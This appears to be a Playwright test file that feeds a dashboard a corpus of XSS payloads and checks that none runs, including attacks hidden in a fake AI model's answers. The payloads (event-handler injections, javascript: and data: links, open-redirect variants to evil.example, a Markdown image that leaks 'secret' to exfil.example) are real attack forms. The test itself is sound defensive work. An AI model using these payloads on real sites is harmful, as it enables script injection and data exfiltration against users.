"""XSS payloads through every part of the served dashboard that shows text, in real Chromium.

Each payload calls ``window.__xss(id)`` if it ever runs and marks what it injects with
``data-xss``. The payloads go in as a visitor's display name, a second user's name (presence,
typing), chat messages, event names, payloads, field names and chart series, notification
titles, messages and links, AI questions typed into the box and AI answers from a fake model.
(Channel names cannot carry one: they are ``[A-Za-z0-9_-=@,.;]``, and the page shows only its
own channels.) Then: no ``__xss`` call; no marked element ever added (a MutationObserver in
every shadow root) or present (a walk through every shadow root); no link to a script scheme
or to ``evil.example`` (a host smuggled past a same-site check); nothing loaded from another
host (a model's image is exfiltration); and the payloads visible as text.
"""

from __future__ import annotations

import json

import aiohttp
import pytest
from playwright.async_api import Locator, Page, expect

from tests.browser.conftest import BROWSER_TOKEN, dashboard_serve
from tests.fake_openai import FakeOpenAI
from tests.waiting import until

TIMEOUT = 30_000  # ms; the first page load compiles Panel's bundles
WAIT = 10_000  # ms; anything after the page is up

#: id -> payload. Run, each one calls __xss(id); each element it injects carries data-xss.
CORPUS = {
    # Quoted attributes: CommonMark only takes these for raw HTML.
    "img": '<img src="x" data-xss onerror="__xss(\'img\')">',
    "script": "<script data-xss>__xss('script')</script>",
    "svg": '"><svg data-xss onload="__xss(\'svg\')">',
    "bold": "'><b data-xss=1>bold</b>",
    # The hole a hand-written escaper left: it took \` for the start of a code span.
    "backtick": 'see \\`<img src="x" data-xss onerror="__xss(\'backtick\')">`',
    "iframe": "<iframe data-xss srcdoc=\"<script>parent.__xss('iframe')</script>\"></iframe>",
    "details": "<details data-xss open ontoggle=__xss('details')>x</details>",
    "attr": "\" data-xss autofocus onfocus=__xss('attr') x=\"",
    "attr1": "' data-xss autofocus onfocus=__xss('attr1') x='",
    "anchor": "<a data-xss href=\"javascript:__xss('anchor')\">anchor</a>",
    "md-js": "[md-js](javascript:__xss('md-js'))",
    "md-data": "[md-data](data:text/html,<script>parent.__xss('md-data')</script>)",
    "md-backslash": "[md-backslash](/\\evil.example/x)",
    "md-image": "![md-image](https://exfil.example/leak?q=secret)",
    "md-autolink": "<javascript:__xss('md-autolink')>",
    "template": "${__xss('template')} {{constructor.constructor(\"__xss('template')\")()}}",
    "textarea": '</textarea><img src="x" data-xss onerror="__xss(\'textarea\')">',
    "style": "<style>*{background:url(//exfil.example/s)}</style><b data-xss>style</b>",
    "unicode": "\uff1cimg src=x data-xss onerror=__xss('unicode')\uff1e \u2028<b data-xss>u</b>",
    "entity": "&lt;img src=x data-xss onerror=__xss('entity')&gt; &#60;b data-xss&#62;",
    "percent": "%3Cimg%20src%3Dx%20data-xss%20onerror%3D__xss('percent')%3E",
}
#: Notification links: only the last two may become links.
LINKS = {
    "link-js": "javascript:__xss('link-js')",
    "link-data": "data:text/html,<script>__xss('link-data')</script>",
    "link-backslash": "/\\evil.example/x",
    "link-double-backslash": "\\\\evil.example/x",
    "link-tab": "/\t/evil.example",
    "link-scheme-relative": "//evil.example/x",
    "link-dot-slash": "/.//evil.example",
    "link-path": "/api/health",
    "link-web": "https://ok.example/run/1",
}
NAME = '<img src="x" data-xss onerror="__xss(\'name\')">'  # names: at most 128 characters
TYPER = '"><svg data-xss onload="__xss(\'typer\')">'  # 40: typing shows 40
#: Shown literally wherever they go, Markdown or not.
LITERAL = ["img", "script", "svg", "iframe", "details"]

# Runs before any page script: records __xss calls and every element with data-xss ever
# added, also inside shadow roots (Panel renders its components in shadow DOM).
INIT = """
window.__xssHits = [];
window.__xssMarked = [];
window.__xss = (id) => window.__xssHits.push(String(id));
const note = (node) => {
  if (node.nodeType !== 1) return;
  const marked = node.matches('[data-xss]') ? [node] : [];
  for (const el of [...marked, ...node.querySelectorAll('[data-xss]')])
    window.__xssMarked.push(el.outerHTML.slice(0, 200));
};
const watch = (root) => new MutationObserver((records) => {
  for (const record of records) {
    if (record.type === 'attributes') note(record.target);
    for (const node of record.addedNodes) note(node);
  }
}).observe(root, {childList: true, subtree: true, attributes: true, attributeFilter: ['data-xss']});
watch(document);
const attach = Element.prototype.attachShadow;
Element.prototype.attachShadow = function (init) {
  const root = attach.call(this, init);
  watch(root);
  return root;
};
"""

# The whole document now, through every shadow root: marked elements; links a click would
# follow to a script scheme or to evil.example (a host smuggled past a same-site check); and
# anything that would load from another host by itself (a model's image is exfiltration).
SCAN = """
() => {
  const marked = [], links = [];
  const visit = (root) => {
    for (const el of root.querySelectorAll('*')) {
      if (el.hasAttribute('data-xss')) marked.push(el.outerHTML.slice(0, 200));
      for (const name of ['href', 'src', 'srcset', 'srcdoc', 'action', 'formaction', 'poster']) {
        const value = el.getAttribute(name);
        if (value === null) continue;
        let url = null;
        try { url = new URL(value, document.baseURI); } catch (e) {}
        const followed = name === 'href';
        const bad = name === 'srcdoc' || url === null
          || (followed && !['http:', 'https:', 'mailto:'].includes(url.protocol))
          || (followed && url.hostname.endsWith('evil.example'))
          || (!followed && !['data:', 'blob:'].includes(url.protocol)
              && url.host !== location.host);
        if (bad) links.push(`${el.tagName} ${name}=${value}`);
      }
      if (el.shadowRoot) visit(el.shadowRoot);
    }
  };
  visit(document);
  return {hits: window.__xssHits, added: window.__xssMarked, marked, links};
}
"""


class Findings:
    """What :data:`SCAN` found new at each stage, requests that left the server, and which
    payloads were not shown as text: one run reports every hole at once."""

    def __init__(self, page: Page, url: str) -> None:
        self.page = page
        self.seen: dict[str, list[str]] = {
            "hits": [], "added": [], "marked": [], "links": [], "requests": []
        }  # fmt: skip
        self.by_stage: dict[str, dict[str, list[str]]] = {}
        self.missing: list[str] = []
        self.requests: list[str] = []  # the page loads everything from the server itself
        local = (url, "data:", "blob:")
        page.on(
            "request", lambda r: None if r.url.startswith(local) else self.requests.append(r.url)
        )

    async def check(self, stage: str) -> None:
        found = {**await self.page.evaluate(SCAN), "requests": list(self.requests)}
        new = {key: [item for item in found[key] if item not in self.seen[key]] for key in found}
        if any(new.values()):
            self.by_stage[stage] = {key: items for key, items in new.items() if items}
        for key, items in found.items():
            self.seen[key] += items

    async def shown(self, locator: Locator, what: str, count: int | None = None) -> None:
        """Expect ``locator`` visible (``count`` times); note it as missing otherwise."""
        try:
            if count is None:
                await expect(locator.first).to_be_visible(timeout=WAIT)
            else:
                await expect(locator).to_have_count(count, timeout=WAIT)
        except AssertionError:
            self.missing.append(what)


async def post(url: str, path: str, body: dict, token: str = BROWSER_TOKEN) -> tuple[int, dict]:
    async with (
        aiohttp.ClientSession() as http,
        http.post(f"{url}{path}", json=body, headers={"Authorization": f"Bearer {token}"}) as r,
    ):
        return r.status, await r.json()


def as_answered(payload: str) -> str:
    """``payload`` as the model says it: its hits read ``answer:ID``."""
    return payload.replace("__xss('", "__xss('answer:")


@pytest.fixture
async def hostile_model():
    """A fake OpenAI whose answer is the whole corpus, one paragraph per payload."""
    # A little delay, so the answer is rendered partially (mid-payload) along the way.
    tokens = [f"{as_answered(payload)}\n\n" for payload in CORPUS.values()]
    server = await FakeOpenAI(tokens, delay=0.02).start()
    yield server
    await server.stop()


async def test_no_payload_runs_anywhere_on_the_page(browser, hostile_model, tmp_path, monkeypatch):
    monkeypatch.setenv("OPENAI_BASE_URL", hostile_model.base_url)
    monkeypatch.setenv("OPENAI_API_KEY", "sk-test")
    async with dashboard_serve("--no-demo", "--db", str(tmp_path / "xss.sqlite3")) as url:
        context = await browser.new_context(viewport={"width": 1400, "height": 1400})
        await context.add_init_script(INIT)
        me = await (await context.request.post(f"{url}/api/identity", data={"name": NAME})).json()
        page = await context.new_page()
        findings = Findings(page, url)
        await page.goto(f"{url}/")
        await expect(page.locator(".dashboard-me").first).to_have_text(NAME, timeout=TIMEOUT)
        joined = page.locator(".chat-notice").filter(has_text="You joined #lobby")
        await expect(joined).to_have_count(1, timeout=TIMEOUT)
        unread = page.locator(".unread-badge").first
        await expect(unread).to_have_attribute("data-loaded", "true", timeout=WAIT)
        await findings.check("display name")

        # A second user with a hostile name, in a browser of their own: presence, typing, chat.
        other = await browser.new_context(viewport={"width": 1400, "height": 1000})
        await other.request.post(f"{url}/api/identity", data={"name": TYPER})
        mallory = await other.new_page()
        await mallory.goto(f"{url}/")
        await expect(mallory.locator(".dashboard-me").first).to_have_text(TYPER, timeout=TIMEOUT)
        await findings.shown(page.locator(".dashboard-presence", has_text=TYPER), "presence")
        box = mallory.get_by_placeholder("Message #lobby")
        await box.press_sequentially("hm", delay=30)
        await findings.shown(page.locator(".dashboard-typing", has_text=TYPER), "typing")
        for payload in CORPUS.values():
            await box.fill(payload)
            await box.press("Enter")
            await expect(box).to_have_value("", timeout=WAIT)
        messages = page.locator(".chat-message")
        await expect(messages).to_have_count(len(CORPUS), timeout=WAIT)
        for key in LITERAL:
            await findings.shown(messages.filter(has_text=CORPUS[key]), f"chat {key}")
        await other.close()
        await findings.check("presence, typing and chat")

        # Events: chart series, field names, event names and messages (newest last: the
        # feeds keep the latest 30 and 50).
        for index, payload in enumerate(CORPUS.values()):
            series = {"service": payload[:80], "value": float(index)}
            metric = {"channel": "metrics", "event": "cpu", "data": series}
            assert (await post(url, "/api/publish", metric))[0] == 200
        for key in LITERAL[:3]:
            fields = {"channel": "deploys", "event": key, "data": {CORPUS[key]: 1}}
            assert (await post(url, "/api/publish", fields))[0] == 200
        for payload in CORPUS.values():
            event = {"channel": "alerts", "event": payload, "data": {"message": payload}}
            assert (await post(url, "/api/publish", event))[0] == 200
        entries = page.locator(".live-feed-entry")
        for key in LITERAL:
            await findings.shown(entries.filter(has_text=f"{CORPUS[key]} · {CORPUS[key]}"), key)
        await findings.shown(entries.filter(has_text=f"{CORPUS['svg']}=1"), "field name")
        await findings.check("live feed and charts")

        # Notifications (the list shows the latest 20): every payload in messages, the first
        # ones in titles, the links; toasts while the page is open.
        everything = "\n".join(CORPUS.values())
        refused = []
        for key, link in LINKS.items():
            body = {"user": me["user_id"], "title": key, "message": everything, "link": link}
            status, reply = await post(url, "/api/notifications", body)
            assert status in (201, 400), reply
            if status == 400:
                assert reply["error"] == "invalid_notification"
                refused.append(key)
        for key, payload in list(CORPUS.items())[: 20 - len(LINKS)]:
            body = {"user": me["user_id"], "title": payload, "message": key}
            assert (await post(url, "/api/notifications", body))[0] == 201
        toasts = page.locator(".notyf__toast")
        await findings.shown(toasts.filter(has_text=f"{CORPUS['img']}: img"), "toast")
        await findings.check("notification toasts")
        await page.locator(".dashboard-bell button").first.click()
        notices = page.locator(".notice")
        for key in LITERAL:
            title = notices.locator(".notice-title").filter(has_text=CORPUS[key])
            await findings.shown(title, f"notification title {key}")
        message = notices.locator(".notice-message").filter(has_text=CORPUS["details"])
        await findings.shown(message, "notification message", count=len(LINKS) - len(refused))
        for key in ("link-path", "link-web"):  # a safe link is still a link
            notice = notices.filter(has=page.locator(".notice-title", has_text=key))
            await findings.shown(notice.locator("a[href]"), key, count=1)
        links = page.locator(".notice a[href]")
        hrefs = await links.evaluate_all("(links) => links.map((a) => a.href)")
        await findings.check("notification list")

        # The AI chat: a question typed as a person does, then the fake model's answer.
        box = page.get_by_placeholder("Send a message")
        question = "\n\n".join(CORPUS.values())
        await box.fill(question)
        await box.press("Enter")
        await until(lambda: hostile_model.written == len(CORPUS), timeout=WAIT / 1000)
        ai = page.locator(".chat-feed-log")
        await expect(ai.get_by_text("▌")).to_have_count(0, timeout=WAIT)  # the answer is over
        await expect(box).to_be_enabled(timeout=WAIT)
        request = hostile_model.requests[-1]["messages"]
        assert request[-1] == {"role": "user", "content": question}  # raw text to the model
        for key in LITERAL:
            await findings.shown(ai.get_by_text(CORPUS[key]), f"AI question {key}", count=1)
            await findings.shown(
                ai.get_by_text(as_answered(CORPUS[key])), f"AI answer {key}", count=1
            )
        await findings.check("AI question and answer")
        await context.close()
        assert findings.by_stage == {}, json.dumps(findings.by_stage, indent=1)
        assert findings.missing == [], findings.missing
        assert sorted(hrefs) == sorted([f"{url}/api/health", "https://ok.example/run/1"])
        assert set(refused) == set(LINKS) - {"link-path", "link-web"}
